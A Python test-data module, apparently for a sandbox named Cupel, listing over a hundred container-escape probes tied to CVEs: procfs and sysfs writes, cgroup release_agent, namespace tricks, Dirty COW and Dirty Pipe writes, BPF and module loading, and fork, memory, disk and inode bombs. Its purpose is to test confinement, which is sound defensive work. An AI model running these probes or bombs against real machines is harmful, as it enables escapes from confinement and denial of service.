"""Attempts to get out of a machine, or to harm from inside what lies outside: data for the contract.

Each is a Python program that root of the machine runs, behind `PRELUDE`. It goes straight for its aim:
whoever reaches the end is out. An `OSError` on the way means that the machine held; any other end is
a mistake in the attempt itself. An attempt stops at the proof: it opens what it should not be able to
open for writing, but writes nothing, so that the weakened machines that show its teeth stay harmless.
"""

# ruff: noqa: E501, ISC004 -- programs as texts: what matters is that each stands in one place

from __future__ import annotations

import dataclasses

PRELUDE = r"""
import ctypes, errno, fcntl, glob, mmap, os, pty, resource, signal, socket, stat, struct, subprocess
import sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
HOST = dict(pair.split("=", 1) for pair in sys.argv[1:])


def tell(word, why):
    os.write(1, f"\n{word} {why}\n".encode())
    os._exit(0)


def held(why):
    tell("HELD", why)


def done(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def call(x86, other, *arguments):
    if X86 and x86 is None or not X86 and other is None:
        held("no such call on this architecture")
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return done(libc.syscall(ctypes.c_long(x86 if X86 else other), *words))


def mount(source, target, kind, flags=0, data=None):
    text = data and data.encode()
    done(libc.mount(source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), text))


def opens(path, flags=os.O_WRONLY):
    if not stat.S_ISREG(os.stat(path).st_mode):
        held(f"{path} is masked")
    return os.open(path, flags)


def must(truth, otherwise):
    if not truth:
        held(otherwise)


def attempted(attempt):
    try:
        attempt()
    except (OSError, MemoryError, ValueError, subprocess.SubprocessError) as error:
        held(f"{type(error).__name__}: {error}")
    tell("ESCAPED", "")
"""

DRIVER = r"""
import json, os, select, signal, sys, time

job = json.load(sys.stdin)
for name, program in job["programs"].items():
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.setpgrp()
        os.dup2(theirs, 1)
        os.dup2(theirs, 2)
        os.closerange(3, 64)
        sys.argv[1:] = job["told"]
        try:
            exec(compile(program, name, "exec"), {"__name__": "attempt"})
        except BaseException as error:
            os.write(2, f"\nBROKEN {type(error).__name__}: {error}".encode())
        os._exit(1)
    os.close(theirs)
    said, until = b"", time.monotonic() + 20
    while len(said) < 65536 and select.select([ours], [], [], max(0, until - time.monotonic()))[0]:
        piece = os.read(ours, 4096)
        if not piece:
            break
        said += piece
    os.close(ours)
    if time.monotonic() < until:
        _, status = os.waitpid(pid, 0)
    try:
        os.killpg(pid, signal.SIGKILL)
    except OSError:
        pass
    ended = os.waitstatus_to_exitcode(status) if time.monotonic() < until else None
    print(json.dumps([name, ended, said.decode(errors="replace")]), flush=True)
"""
"""Runs attempts one after the other, each in a process of its own: interpreters start slowly."""


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class Attempt:
    """`origin` is why it worked once: a CVE or a class of them. `body` is what is done.

    `kernel`: it aims at the kernel, so with a kernel of its own a machine may let it through. `teeth`
    is where it is seen to succeed: `loose`, a machine that confines nothing; `root`, the host's root
    with a pid namespace of its own, and `host`, without; `large`, a machine of higher limits; or,
    behind a dash, why nowhere.
    `kills` are signals that end the attempt where it is held.
    """

    name: str
    kind: str
    origin: str
    body: str
    kernel: bool = True
    teeth: str = "loose"
    kills: tuple[int, ...] = ()

    @property
    def program(self) -> str:
        lines = "\n".join(f"    {line}" for line in self.body.strip().splitlines())
        return f"{PRELUDE}\ndef attempt():\n{lines}\n\nattempted(attempt)\n"


def _of(
    kind: str, *attempts: tuple[str, str, str, str], kernel: bool = True
) -> tuple[Attempt, ...]:
    return tuple(
        Attempt(name=name, kind=kind, origin=origin, body=body, kernel=kernel, teeth=teeth)
        for name, origin, teeth, body in attempts
    )


_RESOURCE = "- it takes CAP_SYS_RESOURCE, which root of the computer may lack itself"
_DANGEROUS = "- success would alter the computer that runs the tests"

MOUNTS = _of(
    "mounts",
    ("mount a tmpfs", "any container with CAP_SYS_ADMIN", "loose",
     "mount('none', '/mnt', 'tmpfs')"),
    ("mount a new procfs without masks", "CVE-2024-21626, CVE-2023-25809 follow-ups", "loose",
     "mount('proc', '/mnt', 'proc')"),
    ("mount sysfs for writing", "CVE-2022-0492 class", "root",
     "mount('sysfs', '/mnt', 'sysfs')"),
    ("mount a v1 cgroup for its release_agent", "CVE-2022-0492", "loose",
     "mount('none', '/mnt', 'cgroup', 0, 'memory')"),
    ("mount the v2 cgroups", "cgroup escapes", "loose",
     "mount('none', '/mnt', 'cgroup2')"),
    ("make /proc/sys writable again", "CVE-2019-16884 class: what mounts hide, mounts show", "loose",
     "mount('none', '/proc/sys', '', 0x1020)\nopens('/proc/sys/net/ipv4/ip_forward')"),
    ("make /sys writable again", "what mounts hide, mounts show", "loose",
     "mount('none', '/sys', '', 0x1020)"),
    ("take a mask off procfs", "CVE-2019-16884, CVE-2025-31133 class", "loose",
     "done(libc.umount2(b'/proc/keys', 0))"),
    ("lay an overlay in one's own user namespace", "CVE-2021-3493, CVE-2023-0386", "loose",
     "call(272, 97, 0x10020000)\nmount('none', '/mnt', 'tmpfs')"),
    ("bind a device over another", "CVE-2025-52565 class", "loose",
     "mount('/dev/zero', '/dev/null', '', 0x1000)"),
    ("copy the mount tree", "new mount API, CVE-2022-0185 class", "loose",
     "call(428, 428, -100, b'/', 1)"),
    ("open a file system context", "CVE-2022-0185", "loose",
     "call(430, 430, b'tmpfs', 0)"),
    ("drop read-only by mount_setattr", "new mount API", "loose",
     "call(442, 442, -100, b'/sys', 0, struct.pack('=4Q', 0, 1, 0, 0), 32)"),
    ("move a mount", "new mount API", "loose",
     "mount('none', '/mnt', 'tmpfs')\ncall(429, 429, -100, b'/mnt', -100, b'/srv', 0)"),
    ("pivot to another root", "chroot breakouts by pivot_root", "loose",
     "mount('none', '/mnt', 'tmpfs')\nos.mkdir('/mnt/old')\ncall(155, 41, b'/mnt', b'/mnt/old')"),
    ("mount FUSE", "CVE-2022-0492 chains, FUSE races", "root",
     "done(os.mknod('/build/fuse', stat.S_IFCHR | 0o600, os.makedev(10, 229)) or 0)\n"
     "os.open('/build/fuse', os.O_RDWR)"),
)  # fmt: skip

NAMESPACES = _of(
    "namespaces",
    ("unshare a user namespace", "CVE-2022-0185, -25636, -32250: all began here", "loose",
     "call(272, 97, 0x10000000)"),
    ("unshare a mount namespace", "CVE-2020-15257 class", "loose", "call(272, 97, 0x20000)"),
    ("unshare a network namespace", "netfilter for everybody: CVE-2024-1086", "loose",
     "call(272, 97, 0x40000000)"),
    ("unshare a time namespace", "newer namespaces that filters forgot", "loose",
     "call(272, 97, 0x80)"),
    ("clone into a user namespace", "CVE-2022-0185", "loose",
     "pid = call(56, 220, 0x10000011, 0, 0, 0, 0)\npid or os._exit(0)"),
    ("clone3 into a user namespace", "filters that can't see its flags", "loose",
     "pid = call(435, 435, struct.pack('=8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)\n"
     "pid or os._exit(0)"),
    ("enter a namespace by its file", "CVE-2020-14386 chains", "loose",
     "call(308, 268, os.open('/proc/self/ns/ipc', os.O_RDONLY), 0)"),
    ("open the namespaces of process 1", "nsenter of containers with the host's pids", "root",
     "os.open('/proc/1/ns/mnt', os.O_RDONLY)"),
    ("ask a namespace for its parent", "ioctl_ns(2)", "- the kernel refuses it across a user "
     "namespace, whoever asks",
     "fcntl.ioctl(os.open('/proc/self/ns/user', os.O_RDONLY), 0xB702)"),
    ("map further ids of the host", "CVE-2018-18955", "- the map of a namespace is written once",
     "os.write(os.open('/proc/self/uid_map', os.O_WRONLY), b'0 0 4294967295')"),
    ("own a file by an id that is not mapped", "shiftfs and idmap holes",
     "root", "open('/build/f', 'w').close()\nos.chown('/build/f', 70000, 70000)"),
    ("break out of a chroot", "the oldest of all", "root",
     "os.makedirs('/build/jail', exist_ok=True)\nup = os.open('/', os.O_RDONLY)\n"
     "os.chroot('/build/jail')\nos.fchdir(up)\n"
     "for _ in range(64): os.chdir('..')\nos.chroot('.')\nos.stat(HOST['secret'])"),
)  # fmt: skip

PROCFS = _of(
    "procfs",
    ("set the core pattern", "core_pattern runs a program of the host's", "root",
     "opens('/proc/sys/kernel/core_pattern')"),
    ("set the path of modprobe", "modprobe_path overwrites", "root",
     "opens('/proc/sys/kernel/modprobe')"),
    ("trigger sysrq", "containers with a writable procfs", "root", "opens('/proc/sysrq-trigger')"),
    ("switch sysrq on", "the same", "root", "opens('/proc/sys/kernel/sysrq')"),
    ("register a binary format", "binfmt_misc runs with the rights of the file's owner",
     "root", "mount('none', '/proc/sys/fs/binfmt_misc', 'binfmt_misc')"),
    ("write any setting of the kernel", "kernel.*, vm.*, fs.* through /proc/sys", "root",
     "for where, _, files in os.walk('/proc/sys'):\n"
     "  for name in files:\n"
     "    try: os.open(f'{where}/{name}', os.O_WRONLY)\n"
     "    except OSError: continue\n"
     "    return\n"
     "held('nothing can be opened')"),
    ("read the memory of the kernel", "kcore of privileged containers", "root",
     "os.read(opens('/proc/kcore', os.O_RDONLY), 4096) or held('empty')"),
    ("read the log of the kernel", "addresses of the kernel for an exploit", "root",
     "fd = os.open('/proc/kmsg', os.O_RDONLY | os.O_NONBLOCK)\n"
     "stat.S_ISREG(os.fstat(fd).st_mode) or held('masked')"),
    ("read the addresses of the kernel", "kallsyms", "root",
     "any(int(l.split()[0], 16) for l in open('/proc/kallsyms')) or held('empty or zeros')"),
    ("see keys of the host's users", "CVE-2014-9529 class", "root",
     "open('/proc/key-users').read() or held('empty')"),
    ("walk out through the root of process 1", "CVE-2018-15664 class", "root",
     "os.stat('/proc/1/root' + HOST['secret'])"),
    ("walk out through any process's root or cwd", "CVE-2024-21626: leaked working directories",
     "root",
     "for path in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n"
     "  if os.path.exists(path + HOST['secret']): return\n"
     "held('none leads out')"),
    ("walk out through an inherited descriptor", "CVE-2024-21626, CVE-2016-9962", "root",
     "for fd in os.listdir('/proc/self/fd'):\n"
     "  if os.path.exists(f'/proc/self/fd/{fd}' + '/..' * 20 + HOST['secret']): return\n"
     "os.path.exists(HOST['secret']) or held('none leads out')"),
    ("overwrite the program that started us", "CVE-2019-5736", "root",
     "os.open('/proc/1/exe', os.O_RDONLY)"),
    ("read the environment of process 1", "secrets in environments", "root",
     "open('/proc/1/environ').read(1)"),
    ("open the memory of process 1", "Dirty COW by /proc/self/mem", "root",
     "os.open('/proc/1/mem', os.O_RDWR)"),
    ("see the files that process 1 has open", "CVE-2016-9962; spoofing the agent's channel", "root",
     "for fd in os.listdir('/proc/1/fd'): os.readlink(f'/proc/1/fd/{fd}')"),
    ("spare oneself from the OOM killer", "hosts that ran out of memory", _RESOURCE,
     "os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'-1000')"),
    ("see other processes than one's own", "shared pid namespaces", "host",
     "len([n for n in os.listdir('/proc') if n.isdigit()]) > 40 or held('few')\n"),
    ("set a helper for device events", "uevent_helper", "root", "opens('/sys/kernel/uevent_helper')"),
    ("put the computer to sleep", "writable sysfs", "root", "opens('/sys/power/state')"),
    ("write any file of sysfs", "writable sysfs", "root",
     "for where, _, files in os.walk('/sys/class/net/lo/'):\n"
     "  for name in files:\n"
     "    try: os.open(f'{where}/{name}', os.O_WRONLY)\n"
     "    except OSError: continue\n"
     "    return\n"
     "held('nothing can be opened')"),
    ("set notify_on_release", "CVE-2022-0492, Felix Wilhelm's one-liner", "root",
     "found = glob.glob('/sys/fs/cgroup/**/notify_on_release', recursive=True)\n"
     "found or held('no cgroups to be seen')\nopens(found[0])"),
)  # fmt: skip

DEVICES = _of(
    "devices",
    ("make a node of a disk", "mknod and debugfs", "root",
     "os.mknod('/build/disk', stat.S_IFBLK | 0o600, os.makedev(7, 0))\n"),
    ("make a node of physical memory", "mknod of /dev/mem", "root",
     "os.mknod('/build/mem', stat.S_IFCHR | 0o600, os.makedev(1, 1))"),
    ("make a node of the kernel's log", "mknod of /dev/kmsg", "root",
     "os.mknod('/build/kmsg', stat.S_IFCHR | 0o600, os.makedev(1, 11))"),
    ("find a disk among the devices", "devices that are there already", "root",
     "disks = [p for p in glob.glob('/dev/*') if stat.S_ISBLK(os.stat(p).st_mode)]\n"
     "disks or held('no block device')\nos.open(disks[0], os.O_RDONLY)"),
    ("open loop control, kvm or tun", "devices that are there already", "root",
     "for path in ('/dev/loop-control', '/dev/kvm', '/dev/net/tun', '/dev/fuse', '/dev/mem'):\n"
     "  if os.path.exists(path): return os.open(path, os.O_RDWR) and None\n"
     "held('none is there')"),
    ("type into a terminal", "CVE-2017-5226, CVE-2016-2568 class", "root",
     "ours, theirs = pty.openpty()\nos.getpid() == os.getsid(0) or os.setsid()\nfcntl.ioctl(theirs, 0x540E, 0)\n"
     "fcntl.ioctl(theirs, 0x5412, b'x')"),
    ("paste into a console", "TIOCLINUX", "- there is no console to paste into",
     "ours, theirs = pty.openpty()\nfcntl.ioctl(theirs, 0x541C, b'\\3')"),
    ("take the terminal of whoever started us", "CVE-2017-5226", "- tests have no terminal",
     "os.open('/dev/tty', os.O_RDWR)"),
)  # fmt: skip

KERNEL = _of(
    "kernel",
    ("load a module", "CAP_SYS_MODULE", _DANGEROUS,
     "call(175, 105, b'', 0, b'')"),
    ("load a module from a file", "CAP_SYS_MODULE", _DANGEROUS,
     "call(313, 273, os.open('/bin/true', os.O_RDONLY), b'', 0)"),
    ("load another kernel", "kexec", _DANGEROUS, "call(246, 104, 0, 0, 0, 0)"),
    ("reboot", "CAP_SYS_BOOT", _DANGEROUS, "call(169, 142, 0xFEE1DEAD, 672274793, 0, 0)"),
    ("load a BPF program", "CVE-2021-3490, CVE-2020-8835", "root",
     "code = struct.pack('=QQ', 0xB7, 0x95)\nbuffer = ctypes.create_string_buffer(code, 16)\n"
     "licence = ctypes.create_string_buffer(b'GPL')\n"
     "attributes = struct.pack('=IIQQ', 1, 2, ctypes.addressof(buffer), ctypes.addressof(licence))\n"
     "call(321, 280, 5, attributes + bytes(104), 128)"),
    ("make a BPF map", "CVE-2017-16995", "root",
     "call(321, 280, 0, struct.pack('=IIII', 2, 4, 4, 1) + bytes(112), 128)"),
    ("count with perf", "CVE-2013-2094", "root",
     "call(298, 241, struct.pack('=IIQ', 1, 112, 0) + bytes(24) + struct.pack('=Q', 0x61)"
     " + bytes(64), 0, -1, -1, 0)"),
    ("handle page faults", "the helper of many exploits", "loose", "call(323, 282, 1)"),
    ("make an io_uring", "CVE-2021-41073, CVE-2022-29582", "loose",
     "call(425, 425, 1, bytes(120))"),
    ("join a keyring of the user", "CVE-2016-0728", "loose", "call(250, 219, 1, b'x')"),
    ("add a key", "CVE-2017-15951", "loose", "call(248, 217, b'user', b'x', b'y', 1, -1)"),
    ("request a key", "CVE-2014-9529", "- only where a helper hands keys out",
     "call(249, 218, b'user', b'x', 0, 0)"),
    ("set the clock", "CAP_SYS_TIME", _DANGEROUS,
     "call(227, 112, 0, struct.pack('=qq', *divmod(time.time_ns(), 10**9)))"),
    ("slew the clock", "CAP_SYS_TIME", "loose", "call(305, 266, 0, struct.pack('=I', 0) + bytes(204))"),
    ("rename the host", "CAP_SYS_ADMIN without a namespace", "loose",
     "name = socket.gethostname().encode()\ncall(170, 161, name, len(name))"),
    ("swap to a file", "CAP_SYS_ADMIN", _DANGEROUS, "call(167, 224, b'/build/swap', 0)"),
    ("account processes to a file", "CAP_SYS_PACCT", _DANGEROUS, "call(163, 89, 0)"),
    ("read the kernel's ring buffer", "addresses of the kernel", "root",
     "call(103, 116, 3, bytes(64), 64)"),
    ("gain the processor's ports", "CAP_SYS_RAWIO", "root", "call(173, None, 0x80, 1, 1)"),
    ("change segments of the processor", "CVE-2015-5157 class", "loose",
     "call(154, None, 0, bytes(16), 16)"),
    ("open a file by its handle", "Docker's shocker, 2014", "root",
     "try: call(304, 265, os.open('/build', os.O_RDONLY), struct.pack('=II', 8, 1) + bytes(8), 0)\n"
     "except OSError as error: error.errno == errno.ESTALE or held(error)"),
    ("name a file by a handle", "Docker's shocker, 2014", "loose",
     "call(303, 264, -100, b'/dev/shm', struct.pack('=Ii', 128, 0) + bytes(128), bytes(8), 0)"),
    ("open a socket to the hypervisor", "vsock ignores network namespaces", "loose",
     "socket.socket(40, socket.SOCK_STREAM)"),
    ("open a socket to the kernel's ciphers", "AF_ALG faults", "root", "socket.socket(38, 5)"),
    ("open a packet socket", "CVE-2020-14386, CVE-2017-7308", "loose", "socket.socket(17, 3)"),
    ("open a raw socket", "CAP_NET_RAW: spoofing neighbours", "loose", "socket.socket(2, 3, 255)"),
    ("talk to netfilter", "CVE-2024-1086, CVE-2022-32250", "loose", "socket.socket(16, 3, 12)"),
    ("use 32-bit system calls", "filters that know one table", "loose",
     "code = bytes.fromhex('b814000000cd80c3')  # getpid\n"
     "page = mmap.mmap(-1, 4096, prot=7)\npage.write(code)\n"
     "X86 or held('no such calls on this architecture')\n"
     "address = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
     "done(ctypes.CFUNCTYPE(ctypes.c_int)(address)())"),
    ("use x32 system calls", "CVE-2014-0038", "- few kernels have them", "call(0x40000000 + 39, None)"),
    ("lend pages to a pipe", "CVE-2020-29374, vmsplice", "loose",
     "ours, theirs = os.pipe()\nbuffer = ctypes.create_string_buffer(4096)\n"
     "call(278, 75, theirs, struct.pack('=QQ', ctypes.addressof(buffer), 4096), 1, 0)"),
    ("watch files with fanotify", "watches on the mounts of others", "loose",
     "call(300, 262, 0x200, 0)"),
    ("make data executable", "personalities", "loose", "call(135, 92, 0x400000)"),
    ("use a call newer than the filter", "filters that let through what they do not know",
     "- which calls there are is the kernel's matter", "call(467, 467, -100, b'/', 0, 0, 0)"),
)  # fmt: skip

PRIVILEGES = _of(
    "privileges",
    ("trace process 1", "CVE-2019-5736 class", "root", "call(101, 117, 0x4206, 1, 0, 0)"),
    ("read the memory of process 1 by a call", "process_vm_readv", "root",
     "call(310, 270, 1, struct.pack('=QQ', 0, 0), 1, struct.pack('=QQ', 4096, 1), 1, 0)\n"
     "opens('/proc/1/maps', os.O_RDONLY)\nopen('/proc/1/maps').read(1) or held('nothing')"),
    ("take a descriptor from process 1", "pidfd_getfd; spoofing the agent's channel", "root",
     "call(438, 438, call(434, 434, 1, 0), 0, 0)"),
    ("become privileged by a set-user-id program", "every su since 1973", "- su is what it is for: "
     "outside, the same user stays without",
     "import shutil\nshutil.copy(sys.executable, '/build/python')\nos.chmod('/build/python', 0o4755)\n"
     "out = subprocess.run(['/build/python', '-c', 'import os; print(os.geteuid())'],"
     " user=4711, group=4711, capture_output=True, text=True).stdout\n"
     "out.strip() == '0' or held(f'effective user {out}')"),
    ("get a capability back", "dropped but not from the bounding set", "loose",
     "status = open('/proc/self/status').read()\n"
     "bounding = int(status.split('CapBnd:')[1].split()[0], 16)\n"
     "bounding & (1 << 21 | 1 << 12 | 1 << 19 | 1 << 2) or held(hex(bounding))"),
    ("raise a limit", "CAP_SYS_RESOURCE", _RESOURCE,
     "hard = resource.getrlimit(resource.RLIMIT_RTPRIO)[1]\n"
     "resource.setrlimit(resource.RLIMIT_RTPRIO, (hard, max(hard, 0) + 50))"),
    ("run as real-time", "starving the host", "root",
     "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))"),
    ("run at a better priority than all", "starving the host", "root", "os.nice(-20)"),
    ("run when others are idle, by deadline", "starving the host", "root",
     "call(314, 274, 0, struct.pack('=IIQiIQQQ', 48, 6, 0, 0, 0, 10**6, 10**8, 10**8), 0)"),
    ("lock all memory", "pages that can't be reclaimed", _RESOURCE,
     "resource.setrlimit(resource.RLIMIT_MEMLOCK, (-1, -1))"),
)  # fmt: skip

NEIGHBOURS = _of(
    "neighbours",
    ("signal a process of the host", "shared pid namespaces", "host",
     "os.kill(int(HOST['pid']), 0)\n"
     "b'cupel-canary' in open(f\"/proc/{HOST['pid']}/cmdline\", 'rb').read() or held('another')"),
    ("see a file of the host", "the aim of all", "root", "os.stat(HOST['secret'])"),
    ("connect to an abstract socket of the host", "CVE-2020-15257: containerd's shim", "root",
     "socket.socket(socket.AF_UNIX).connect('\\0' + HOST['abstract'])"),
    ("connect to a socket file of the host", "docker.sock", "root",
     "socket.socket(socket.AF_UNIX).connect(HOST['socket'])"),
    ("connect to the host's loopback", "CVE-2020-8558 class", "root",
     "socket.create_connection(('127.0.0.1', int(HOST['port'])), 2)"),
    ("connect to the host's loopback by IPv6", "rules for IPv4 alone", "root",
     "socket.create_connection(('::1', int(HOST['port'])), 2)"),
    ("connect to the host by its addresses", "cloud and office networks", "root",
     "for address in HOST['addresses'].split(','):\n"
     "  try: return socket.create_connection((address, int(HOST['port'])), 2) and None\n"
     "  except OSError: continue\n"
     "held('none answers')"),
    ("ask a cloud for its credentials", "169.254.169.254", "- there is no cloud in a test",
     "socket.create_connection(('169.254.169.254', 80), 2)"),
    ("connect to a neighbour's service", "one bridge for all", "root",
     "socket.create_connection(('127.0.0.1', int(HOST['neighbour'])), 2)"),
    ("change addresses and routes", "CAP_NET_ADMIN", "loose",
     "sock = socket.socket(16, 3, 0)\n"
     "route = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 4, 253, 1, 0) + struct.pack('=HHI', 8, 4, 1)\n"
     "sock.send(struct.pack('=IHHII', 16 + len(route), 24, 0x405, 1, 0) + route)\n"
     "number = struct.unpack_from('=i', sock.recv(4096), 16)[0]\n"
     "ctypes.set_errno(-number)\ndone(-1 if number else 0)"),
    ("write into what is shown read-only", "CVE-2022-0847 class: shared sources", "root",
     "os.open(HOST['shown'] + '/file', os.O_WRONLY)"),
    ("link what is shown read-only to a writable place", "hard links across mounts", "root",
     "os.link(HOST['shown'] + '/file', '/build/linked')\nos.open('/build/linked', os.O_WRONLY)"),
    ("chmod what is shown read-only", "shared sources", "root",
     "os.chmod(HOST['shown'] + '/file', 0o4777)"),
    ("write through a private mapping into the image", "Dirty COW, CVE-2016-5195", "root",
     "path = HOST['shown'] + '/file'\nfd = os.open(path, os.O_RDONLY)\n"
     "page = mmap.mmap(fd, 4, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)\npage[:4] = b'evil'\n"
     "open(path).read(4) == 'evil' or open(path, 'r+').write('evil')"),
    ("write through a pipe into a page of the image", "Dirty Pipe, CVE-2022-0847",
     "- every kernel that runs Cupel is mended",
     "path = HOST['shown'] + '/file'\nours, theirs = os.pipe()\nos.write(theirs, bytes(65536))\n"
     "os.read(ours, 65536)\nos.splice(os.open(path, os.O_RDONLY), theirs, 1, offset_src=0)\n"
     "os.write(theirs, b'vil')\nopen(path).read(4) == 'hvil' or held('unaltered')"),
    kernel=False,
)  # fmt: skip

ATTEMPTS = (*MOUNTS, *NAMESPACES, *PROCFS, *DEVICES, *KERNEL, *PRIVILEGES, *NEIGHBOURS)


def _bomb(
    name: str, origin: str, body: str, *, teeth: str = "large", kernel: bool = False
) -> Attempt:
    return Attempt(
        name=name, kind="bombs", origin=origin, body=body, kernel=kernel, teeth=teeth, kills=(9,)
    )


BOMBS = (
    _bomb("fork without end", "fork bombs",
          "for _ in range(300):\n  if os.fork() == 0: signal.pause()"),
    _bomb("start threads without end", "fork bombs by threads",
          "try:\n  for _ in range(300): threading.Thread(target=signal.pause, daemon=True).start()\n"
          "except RuntimeError as error: held(error)"),
    _bomb("eat memory", "memory bombs", "kept = bytearray(400 << 20)"),
    _bomb("eat memory in files without a name", "memfd bombs",
          "fd = os.memfd_create('x')\nfor _ in range(400): os.write(fd, bytes(1 << 20))"),
    _bomb("eat memory in shared memory", "tmpfs bombs",
          "with open('/dev/shm/x', 'wb', 0) as f:\n  for _ in range(300): f.write(bytes(1 << 20))"),
    _bomb("eat memory in buffers of sockets", "kernel memory that nobody counts",
          "pairs = []\nblock = bytes(1 << 16)\ntotal = 0\n"
          "while total < 400 << 20:\n"
          "  a, b = socket.socketpair()\n  a.setblocking(False)\n  pairs.append((a, b))\n"
          "  try:\n    while True: total += a.send(block)\n"
          "  except BlockingIOError: pass"),
    _bomb("eat memory in buffers of pipes", "kernel memory that nobody counts",
          teeth="- the kernel's own limit for each user",
          body="pipes = []\nblock = bytes(1 << 16)\ntotal = 0\n"
          "while total < 400 << 20:\n"
          "  r, w = os.pipe()\n  os.set_blocking(w, False)\n  pipes.append((r, w))\n"
          "  try:\n    while True: total += os.write(w, block)\n"
          "  except BlockingIOError: pass"),
    _bomb("fill the disk", "disk bombs",
          "with open('/build/x', 'wb', 0) as f:\n  for _ in range(300): f.write(bytes(1 << 20))"),
    _bomb("fill the disk at once", "fallocate",
          "os.posix_fallocate(os.open('/build/x', os.O_CREAT | os.O_RDWR), 0, 300 << 20)"),
    _bomb("use up the inodes of the disk", "inode bombs",
          "os.mkdir('/build/d')\nfor n in range(40000): os.mknod(f'/build/d/{n}')"),
    _bomb("use up the inodes of shared memory", "inode bombs in tmpfs",
          "for n in range(12000): os.mknod(f'/dev/shm/{n}')"),
    _bomb("make files in the tmpfs of the devices", "inode bombs in tmpfs", teeth="- its size is fixed",
          body="for n in range(1000): os.mknod(f'/dev/{n}')"),
    _bomb("use up terminals", "kernel.pty.max is one for all", teeth="- its size is fixed",
          body="kept = [pty.openpty() for _ in range(400)]"),
    _bomb("use up watches of files", "inotify instances of root", teeth="- the kernel's own limit",
          body="for _ in range(5000): done(libc.inotify_init())"),
    _bomb("use up open files", "fs.file-max is one for all", teeth="- the kernel's own limit",
          body="hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\nresource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))\n"
          "kept = [os.open('/dev/null', os.O_RDONLY) for _ in range(1500000)]"),
)  # fmt: skip
"""Run on a small machine (96 processes, 128 MiB of memory and of disk), one after the other."""
